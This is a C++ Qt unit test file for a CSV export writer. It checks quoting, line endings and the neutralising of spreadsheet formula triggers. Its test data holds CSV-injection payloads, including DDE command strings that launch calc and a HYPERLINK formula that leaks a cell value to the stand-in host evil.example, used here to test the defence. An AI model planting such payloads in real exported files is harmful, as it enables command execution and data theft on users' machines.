// SPDX-License-Identifier: GPL-3.0-or-later
#include "FullDevice.h"
#include "export/CsvWriter.h"

#include <QBuffer>
#include <QtTest>

using hookdesk::CsvWriter;
Q_DECLARE_METATYPE(hookdesk::CsvWriter::Kind)

namespace {

const QByteArray WJ = QByteArrayLiteral("\xE2\x81\xA0"); // U+2060 WORD JOINER

using hookdesk::test::FullDevice;

QByteArray write(CsvWriter::Profile profile, const QList<QPair<QString, CsvWriter::Kind>> &row)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer, profile);
    for (const auto &cell : row)
        writer.addCell(cell.first, cell.second);
    writer.endRow();
    writer.finish();
    return buffer.data();
}

} // namespace

class tst_CsvWriter : public QObject
{
    Q_OBJECT

private slots:
    void cell_data();
    void cell();
    void neutralisedNeverStartsAFormula_data();
    void neutralisedNeverStartsAFormula();
    void byteOrderMarkOnlyInSpreadsheetProfile();
    void rowsEndWithCrLf();
    void singleEmptyCellIsQuoted();
    void emptyExport();
    void writeRowOfStrings();
    void largeOutputIsWrittenInFewChunks();
    void deviceFailureIsReported();
};

// One cell between two plain ones, in both profiles: the bytes of that cell as it
// lands in the file.
void tst_CsvWriter::cell_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<CsvWriter::Kind>("kind");
    QTest::addColumn<QByteArray>("spreadsheet");
    QTest::addColumn<QByteArray>("rfc4180");

    const auto T = CsvWriter::Kind::Text;
    const auto N = CsvWriter::Kind::Number;
    auto row = [](const char *name, const QString &value, CsvWriter::Kind kind,
                  const QByteArray &spreadsheet, const QByteArray &rfc) {
        QTest::newRow(name) << value << kind << spreadsheet << rfc;
    };
    auto s = [](const char *utf8) { return QString::fromUtf8(utf8); };

    row("plain", s("Priya Sharma"), T, "Priya Sharma", "Priya Sharma");
    row("commas_inside", s("Sharma, Priya"), T, "\"Sharma, Priya\"", "\"Sharma, Priya\"");
    row("quotes_inside", s("Ravi \"RK\" Kumar"), T, "\"Ravi \"\"RK\"\" Kumar\"",
        "\"Ravi \"\"RK\"\" Kumar\"");
    row("only_a_quote", s("\""), T, "\"\"\"\"", "\"\"\"\"");
    row("lf_inside", s("line one\nline two"), T, "\"line one\nline two\"",
        "\"line one\nline two\"");
    row("crlf_inside", s("line one\r\nline two"), T, "\"line one\r\nline two\"",
        "\"line one\r\nline two\"");
    row("cr_inside", s("a\rb"), T, "\"a\rb\"", "\"a\rb\"");
    row("semicolons_unquoted", s("a;b;c"), T, "a;b;c", "a;b;c");
    row("hindi_name", s("प्रिया शर्मा"), T, "प्रिया शर्मा", "प्रिया शर्मा");
    row("arabic_name", s("فاطمة الزهراء"), T, "فاطمة الزهراء", "فاطمة الزهراء");
    row("emoji_name", s("Priya 🎉👩🏽‍💻"), T, "Priya 🎉👩🏽‍💻", "Priya 🎉👩🏽‍💻");
    row("leading_equals", s("=1+1"), T, "'=1+1", "=1+1");
    row("leading_equals_hyperlink", s("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), T,
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"",
        "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    row("leading_equals_dde", s("=cmd|' /C calc'!A0"), T, "'=cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0");
    row("leading_plus_formula", s("+SUM(1,2)"), T, "\"'+SUM(1,2)\"", "\"+SUM(1,2)\"");
    row("leading_plus_dde", s("+cmd|' /C calc'!A0"), T, "'+cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0");
    row("leading_plus_alone", s("+"), T, "'+", "+");
    row("phone_with_plus", s("+91 98765 43210"), T, WJ + "+91 98765 43210", "+91 98765 43210");
    row("phone_with_plus_compact", s("+919876543210"), T, WJ + "+919876543210", "+919876543210");
    row("phone_with_plus_dashes", s("+1 (555) 010-9999"), T, WJ + "+1 (555) 010-9999",
        "+1 (555) 010-9999");
    row("phone_digits_only", s("919876543210"), T, WJ + "919876543210", "919876543210");
    row("phone_leading_zero", s("09876543210"), T, WJ + "09876543210", "09876543210");
    row("phone_parens", s("(555) 123-4567"), T, WJ + "(555) 123-4567", "(555) 123-4567");
    row("phone_words", s("call after 6pm"), T, "call after 6pm", "call after 6pm");
    row("leading_minus", s("-2+3"), T, WJ + "-2+3", "-2+3");
    row("leading_minus_name", s("-Priya"), T, "'-Priya", "-Priya");
    row("leading_minus_formula", s("-1+cmd|' /C calc'!A0"), T, "'-1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0");
    row("leading_minus_alone", s("-"), T, "'-", "-");
    row("leading_at", s("@SUM(1+1)"), T, "'@SUM(1+1)", "@SUM(1+1)");
    row("leading_at_handle", s("@priya_creates"), T, "'@priya_creates", "@priya_creates");
    row("leading_tab", s("\t=1+1"), T, "'\t=1+1", "\t=1+1");
    row("leading_tab_name", s("\tPriya"), T, "'\tPriya", "\tPriya");
    row("leading_tab_phone", s("\t+91 98765 43210"), T, "'\t+91 98765 43210",
        "\t+91 98765 43210");
    row("leading_cr", s("\r=1+1"), T, "\"'\r=1+1\"", "\"\r=1+1\"");
    row("leading_lf", s("\n=1+1"), T, "\"'\n=1+1\"", "\"\n=1+1\"");
    row("leading_nul", QString(QChar(0)) + s("=1+1"), T, QByteArray("'\0=1+1", 6),
        QByteArray("\0=1+1", 5));
    row("leading_spaces_then_equals", s("  =1+1"), T, "'  =1+1", "  =1+1");
    row("leading_space_then_plus_word", s(" +cmd"), T, "' +cmd", " +cmd");
    row("leading_space_then_phone", s(" +91 1"), T, WJ + " +91 1", " +91 1");
    row("fullwidth_equals", s("＝1+1"), T, "'＝1+1", "＝1+1");
    row("fullwidth_plus", s("＋1+1"), T, "'＋1+1", "＋1+1");
    row("fullwidth_at", s("＠SUM(1)"), T, "'＠SUM(1)", "＠SUM(1)");
    row("equals_inside", s("a=b+c"), T, "a=b+c", "a=b+c");
    row("email_with_plus_inside", s("priya+news@example.com"), T, "priya+news@example.com",
        "priya+news@example.com");
    row("leading_apostrophe", s("'quoted'"), T, "'quoted'", "'quoted'");
    row("empty_field", QString(), T, "", "");
    row("empty_number", QString(), N, "", "");
    row("spaces_around", s("  padded  "), T, "  padded  ", "  padded  ");
    row("looks_like_number", s("00123"), T, WJ + "00123", "00123");
    row("looks_like_plain_number", s("42"), T, WJ + "42", "42");
    row("looks_like_decimal_comma", s("1,5"), T, "\"" + WJ + "1,5\"", "\"1,5\"");
    row("looks_like_percent", s("50%"), T, WJ + "50%", "50%");
    row("looks_like_time", s("10:30"), T, WJ + "10:30", "10:30");
    row("looks_like_scientific", s("6149e10"), T, WJ + "6149e10", "6149e10");
    row("looks_like_scientific_signed", s("1.5E+3"), T, WJ + "1.5E+3", "1.5E+3");
    row("hex_identifier", s("6149b1e5612c4e5fd96041d3"), T, "6149b1e5612c4e5fd96041d3",
        "6149b1e5612c4e5fd96041d3");
    row("looks_like_date", s("2026-01-02"), T, WJ + "2026-01-02", "2026-01-02");
    row("looks_like_date_slashes", s("12/05/2026"), T, WJ + "12/05/2026", "12/05/2026");
    row("looks_like_day_month", s("5 May"), T, WJ + "5 May", "5 May");
    row("looks_like_month_year", s("Mar 2026"), T, WJ + "Mar 2026", "Mar 2026");
    row("looks_like_date_dashes", s("5-Sept-2026"), T, WJ + "5-Sept-2026", "5-Sept-2026");
    row("name_that_is_a_month", s("May Sharma"), T, "May Sharma", "May Sharma");
    row("words_and_number", s("Batch 2"), T, "Batch 2", "Batch 2");
    row("iso_timestamp", s("2026-11-27T04:35:44.038+00:00"), T, "2026-11-27T04:35:44.038+00:00",
        "2026-11-27T04:35:44.038+00:00");
    row("url_with_query", s("https://replay.example/a?x=1&y=2"), T,
        "https://replay.example/a?x=1&y=2", "https://replay.example/a?x=1&y=2");
    row("count_is_a_number", s("42"), N, "42", "42");
    row("count_with_decimals", s("3.5"), N, "3.5", "3.5");
    row("count_negative", s("-5"), N, WJ + "-5", "-5");
    row("count_not_a_number", s("=1+1"), N, "'=1+1", "=1+1");
}

void tst_CsvWriter::cell()
{
    QFETCH(QString, value);
    QFETCH(CsvWriter::Kind, kind);
    QFETCH(QByteArray, spreadsheet);
    QFETCH(QByteArray, rfc4180);

    const QList<QPair<QString, CsvWriter::Kind>> row = {
            {QStringLiteral("before"), CsvWriter::Kind::Text},
            {value, kind},
            {QStringLiteral("after"), CsvWriter::Kind::Text}};
    const QByteArray bom = CsvWriter::byteOrderMark().toByteArray();
    QCOMPARE(write(CsvWriter::Profile::Spreadsheet, row),
             bom + "before," + spreadsheet + ",after\r\n");
    QCOMPARE(write(CsvWriter::Profile::Rfc4180, row), "before," + rfc4180 + ",after\r\n");
    // The static form gives the same cell, before quoting.
    const QByteArray neutral = CsvWriter::neutralise(QByteArrayView(value.toUtf8()), kind);
    QVERIFY(spreadsheet == neutral || spreadsheet.startsWith('"'));
}

// Whatever the input, the Spreadsheet profile never lets a cell start with a
// formula trigger, and the stored value is still there, whole, after the guard.
void tst_CsvWriter::neutralisedNeverStartsAFormula_data()
{
    QTest::addColumn<QString>("value");
    const QStringList triggers = {QStringLiteral("="), QStringLiteral("+"), QStringLiteral("-"),
                                  QStringLiteral("@"), QStringLiteral("\t"), QStringLiteral("\r"),
                                  QStringLiteral("\n")};
    const QStringList bodies = {QString(), QStringLiteral("1"), QStringLiteral("1+1"),
                                QStringLiteral("91 98765 43210"), QStringLiteral("SUM(A1:A9)"),
                                QStringLiteral("=1"), QStringLiteral("+1"), QStringLiteral("\t=1"),
                                QStringLiteral("cmd|' /C calc'!A0"), QStringLiteral(" 5")};
    for (const QString &first : triggers) {
        for (const QString &body : bodies) {
            const QString value = first + body;
            QTest::addRow("%s", qPrintable(QString::fromLatin1(value.toUtf8().toPercentEncoding())))
                    << value;
        }
    }
}

void tst_CsvWriter::neutralisedNeverStartsAFormula()
{
    QFETCH(QString, value);
    for (const auto kind : {CsvWriter::Kind::Text, CsvWriter::Kind::Number}) {
        const QString out = CsvWriter::neutralise(value, kind);
        QVERIFY2(!out.isEmpty(), "a trigger character alone must still be written");
        const QChar first = out.at(0);
        QVERIFY2(!QStringLiteral("=+-@\t\r").contains(first),
                 qPrintable(QStringLiteral("starts with U+%1").arg(first.unicode(), 4, 16,
                                                                   QLatin1Char('0'))));
        QVERIFY(first == QLatin1Char('\'') || first == QChar(0x2060));
        QCOMPARE(out.mid(1), value);
    }
}

void tst_CsvWriter::byteOrderMarkOnlyInSpreadsheetProfile()
{
    const QList<QPair<QString, CsvWriter::Kind>> row = {{QStringLiteral("a"), CsvWriter::Kind::Text}};
    QVERIFY(write(CsvWriter::Profile::Spreadsheet, row).startsWith("\xEF\xBB\xBF" "a"));
    QVERIFY(write(CsvWriter::Profile::Rfc4180, row).startsWith("a"));
}

void tst_CsvWriter::rowsEndWithCrLf()
{
    for (const auto profile : {CsvWriter::Profile::Spreadsheet, CsvWriter::Profile::Rfc4180}) {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        CsvWriter writer(&buffer, profile);
        QVERIFY(writer.writeRow({QStringLiteral("a"), QStringLiteral("b")}));
        QVERIFY(writer.writeRow({QStringLiteral("c"), QStringLiteral("d")}));
        QVERIFY(writer.finish());
        QByteArray data = buffer.data();
        if (profile == CsvWriter::Profile::Spreadsheet)
            data.remove(0, 3);
        QCOMPARE(data, QByteArray("a,b\r\nc,d\r\n"));
    }
}

// A row of one empty field would otherwise be an empty line, which CSV readers skip.
void tst_CsvWriter::singleEmptyCellIsQuoted()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer, CsvWriter::Profile::Rfc4180);
    writer.writeRow({QStringLiteral("name")});
    writer.writeRow({QString()});
    writer.writeRow({QString(), QString()});
    QVERIFY(writer.finish());
    QCOMPARE(buffer.data(), QByteArray("name\r\n\"\"\r\n,\r\n"));
}

void tst_CsvWriter::emptyExport()
{
    QBuffer spreadsheet;
    spreadsheet.open(QIODevice::WriteOnly);
    CsvWriter a(&spreadsheet, CsvWriter::Profile::Spreadsheet);
    QVERIFY(a.finish());
    QCOMPARE(spreadsheet.data(), QByteArray("\xEF\xBB\xBF"));

    QBuffer rfc;
    rfc.open(QIODevice::WriteOnly);
    CsvWriter b(&rfc, CsvWriter::Profile::Rfc4180);
    QVERIFY(b.finish());
    QCOMPARE(rfc.data(), QByteArray());
}

void tst_CsvWriter::writeRowOfStrings()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer, CsvWriter::Profile::Spreadsheet);
    QVERIFY(writer.writeRow({QStringLiteral("=1"), QStringLiteral("x,y"), QStringLiteral("+91 1")}));
    QVERIFY(writer.finish());
    QCOMPARE(buffer.data(), QByteArray("\xEF\xBB\xBF'=1,\"x,y\",") + WJ + "+91 1\r\n");
    QCOMPARE(writer.bytesWritten(), buffer.data().size());
}

void tst_CsvWriter::largeOutputIsWrittenInFewChunks()
{
    FullDevice device(1LL << 40);
    CsvWriter writer(&device, CsvWriter::Profile::Rfc4180);
    const QString value(100, QLatin1Char('x'));
    for (int i = 0; i < 50000; ++i)
        QVERIFY(writer.writeRow({value, value}));
    QVERIFY(writer.finish());
    QCOMPARE(writer.bytesWritten(), qint64(50000) * (100 + 1 + 100 + 2));
    // ~10 MB in 1 MiB pieces, not one write per row.
    QVERIFY2(device.writeCalls < 20, qPrintable(QString::number(device.writeCalls)));
}

void tst_CsvWriter::deviceFailureIsReported()
{
    FullDevice device(1000);
    CsvWriter writer(&device, CsvWriter::Profile::Spreadsheet);
    const QString value(1000, QLatin1Char('x'));
    bool ok = true;
    for (int i = 0; i < 5000 && ok; ++i)
        ok = writer.writeRow({value});
    ok = ok && writer.finish();
    QVERIFY(!ok);
    QVERIFY(writer.hasError());
    QCOMPARE(writer.errorString(), QStringLiteral("No space left on device"));
    // Later rows are refused, not silently dropped.
    QVERIFY(!writer.writeRow({value}));
    QVERIFY(!writer.finish());
}

QTEST_GUILESS_MAIN(tst_CsvWriter)
#include "tst_CsvWriter.moc"
